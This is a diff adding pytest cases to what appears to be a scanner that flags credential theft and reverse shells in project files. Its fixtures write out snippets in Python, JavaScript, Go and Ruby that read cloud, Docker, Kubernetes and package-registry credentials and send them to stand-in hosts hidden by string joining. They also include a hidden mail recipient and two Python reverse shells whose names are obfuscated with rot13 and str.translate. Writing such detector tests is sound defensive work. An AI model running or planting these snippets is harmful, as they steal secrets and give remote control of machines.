@@ -446,3 +446,98 @@ HOLES_BENIGN = {
 def test_the_same_channels_used_plainly_do_not_block(tmp_path: Path, shape: str) -> None:
     found = blocking(tmp_path, HOLES_BENIGN[shape])
     assert not found, found
+
+
+# ------------------------------------------------ a destination the code hides, or a recipient it fixes
+
+HIDDEN_DESTINATION = {
+    "javascript pieces, read in another file": {
+        "scripts/index.py": (
+            "from pathlib import Path\nimport os\n"
+            "HINTS = ['.env', '~/.aws/credentials', '~/.npmrc']\n"
+            "out = {h: Path(os.path.expanduser(h)).read_bytes().hex() for h in HINTS}\n"
+            "Path('.cache/i.json').write_text(str(out))\n"
+        ),
+        "scripts/sync.js": (
+            "const fs = require('fs');\n"
+            "const host = ['team', 'cache', 'example', 'invalid'].join('.');\n"
+            "require('https').request({ host, method: 'PUT' }).end(fs.readFileSync(process.argv[2]));\n"
+        ),
+    },
+    "python pieces": {
+        "scripts/a.py": (
+            "import os, http.client\n"
+            "blob = open(os.path.expanduser('~/.docker/config.json')).read()\n"
+            "c = http.client.HTTPSConnection('.'.join(('c', 'example', 'invalid')))\n"
+            "c.request('POST', '/u', blob)\n"
+        ),
+    },
+    "go pieces": {
+        "main.go": (
+            "package main\n"
+            'import ("net/http"; "os"; "strings"; "bytes")\n'
+            "func main() {\n"
+            '  h, _ := os.UserHomeDir()\n  b, _ := os.ReadFile(h + "/.kube/config")\n'
+            '  host := strings.Join([]string{"c", "example", "invalid"}, ".")\n'
+            '  http.Post("https://"+host+"/u", "text/plain", bytes.NewReader(b))\n'
+            "}\n"
+        ),
+    },
+    "ruby mail with a fixed hidden copy": {
+        "scripts/mail.rb": (
+            "require 'net/smtp'\n"
+            "ctx = %w[.netrc .pypirc].map { |f| File.read(File.join(Dir.home, f)) rescue nil }.compact.join\n"
+            "Net::SMTP.start(ENV['RELAY'], 25) do |smtp|\n"
+            "  smtp.send_message(ctx, 'bot@example.invalid', [ENV['LIST'], 'archive@collect.example.invalid'])\n"
+            "end\n"
+        ),
+    },
+}
+
+
+@pytest.mark.parametrize("shape", sorted(HIDDEN_DESTINATION))
+def test_a_credential_sent_to_a_hidden_or_fixed_destination_blocks(tmp_path: Path, shape: str) -> None:
+    assert blocking(tmp_path, HIDDEN_DESTINATION[shape])
+
+
+def test_pieces_and_mail_without_a_credential_do_not_block(tmp_path: Path) -> None:
+    files = {
+        "scripts/a.js": "const host = ['api', 'example', 'com'].join('.');\nfetch(`https://${host}/v1`);\n",
+        "scripts/mail.rb": (
+            "require 'net/smtp'\nnotes = File.read('CHANGELOG.md')\n"
+            "Net::SMTP.start(ENV['RELAY'], 25) { |s| s.send_message(notes, 'bot@example.com', ['team@example.com']) }\n"
+        ),
+    }
+    found = blocking(tmp_path, files)
+    assert not found, found
+
+
+# ------------------------------------------------ names of a reverse shell hidden by encodings the code applies
+
+HIDDEN_NAMES = {
+    "modules through a rot13 import helper": (
+        "import codecs, importlib\n"
+        "def _m(n):\n    return importlib.import_module(codecs.decode(n, 'rot13'))\n"
+        "s = getattr(_m('fbpxrg'), 'socket')()\n"
+        "s.connect(('192.0.2.13', 4242))\n"
+        "for fd in (0, 1, 2):\n    getattr(_m('bf'), 'dup2')(s.fileno(), fd)\n"
+        "getattr(_m('cgl'), 'spawn')('/bin/sh')\n"
+    ),
+    "a call name through str.translate": (
+        "import os, socket\n"
+        "s = socket.socket()\ns.connect(('192.0.2.13', 4242))\n"
+        "for fd in (0, 1, 2):\n"
+        "    getattr(os, 'qhc2'.translate(str.maketrans('qhc', 'dup')))(s.fileno(), fd)\n"
+        "os.execv('/bin/sh', ['sh'])\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(HIDDEN_NAMES))
+def test_a_reverse_shell_with_encoded_names_blocks(tmp_path: Path, shape: str) -> None:
+    assert blocking(tmp_path, {"scripts/k.py": HIDDEN_NAMES[shape]})
+
+
+def test_a_translated_name_that_is_harmless_does_not_block(tmp_path: Path) -> None:
+    script = "import os\nprint(getattr(os, 'gpecwd'.translate(str.maketrans('gpe', 'get')))())\n"
+    assert not blocking(tmp_path, {"scripts/k.py": script})
